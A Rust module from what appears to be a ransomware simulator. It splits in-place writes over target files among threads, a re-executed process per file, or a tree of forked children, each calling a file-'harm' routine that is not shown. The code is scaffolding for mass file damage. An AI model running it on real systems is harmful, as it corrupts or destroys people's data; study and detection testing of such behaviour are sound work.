//! Who does the work: threads, a process for each file, or a tree of forked processes. All write in place.
use std::path::{Path, PathBuf};
use std::process::Command;

use anyhow::{Context, bail};

use super::harm::harm_each;
use super::mode::Pace;
use crate::call::checked;

const THREADS: usize = 8;
/// Of the tree of processes: three generations below the first.
const LEAVES: usize = 8;

pub fn threads(targets: &[PathBuf], pace: Pace) -> anyhow::Result<()> {
    std::thread::scope(|scope| {
        let workers: Vec<_> = parts(targets, THREADS)
            .map(|part| scope.spawn(move || harm_each(part, pace)))
            .collect();
        workers.into_iter().try_for_each(|worker| match worker.join() {
            Ok(ended) => ended,
            Err(_) => bail!("a thread panicked"),
        })
    })
}

/// Each runs this program again, as a loop in a shell runs a tool.
pub fn process_per_file(dir: &Path, targets: &[PathBuf], pace: Pace) -> anyhow::Result<()> {
    let program = std::env::current_exe()?;
    for path in targets {
        let status = Command::new(&program)
            .arg("ransomware")
            .arg(dir)
            .args(["--mode", "process-per-file", "--only"])
            .arg(path)
            .status()?;
        if !status.success() {
            bail!("the process for {} ended with {status}", path.display());
        }
        std::thread::sleep(pace.pause);
    }
    Ok(())
}

/// Halves the work between two children until each has a leaf's part.
pub fn fork_tree(targets: &[PathBuf], pace: Pace) -> anyhow::Result<()> {
    grow(targets, targets.len().div_ceil(LEAVES), pace)
}

fn grow(targets: &[PathBuf], leaf: usize, pace: Pace) -> anyhow::Result<()> {
    if targets.len() <= leaf {
        return harm_each(targets, pace);
    }
    let children = parts(targets, 2)
        .map(|half| fork(|| grow(half, leaf, pace)))
        .collect::<anyhow::Result<Vec<_>>>()?;
    children.into_iter().try_for_each(join)
}

/// Runs `work` in a child and returns its pid.
fn fork(work: impl FnOnce() -> anyhow::Result<()>) -> anyhow::Result<libc::pid_t> {
    // SAFETY: this process has one thread, so the child finds no lock held by another.
    let pid = unsafe { libc::fork() };
    checked("fork", pid)?;
    if pid == 0 {
        let code = i32::from(work().is_err());
        // SAFETY: ends the child at once; what runs at exit belongs to the parent.
        unsafe { libc::_exit(code) }
    }
    Ok(pid)
}

fn join(pid: libc::pid_t) -> anyhow::Result<()> {
    let mut status = 0;
    // SAFETY: `status` outlives the call.
    checked("waitpid", unsafe { libc::waitpid(pid, &raw mut status, 0) }).context("lost a child")?;
    if status != 0 {
        bail!("child {pid} ended with wait status {status}");
    }
    Ok(())
}

fn parts(targets: &[PathBuf], count: usize) -> std::slice::Chunks<'_, PathBuf> {
    targets.chunks(targets.len().div_ceil(count).max(1))
}
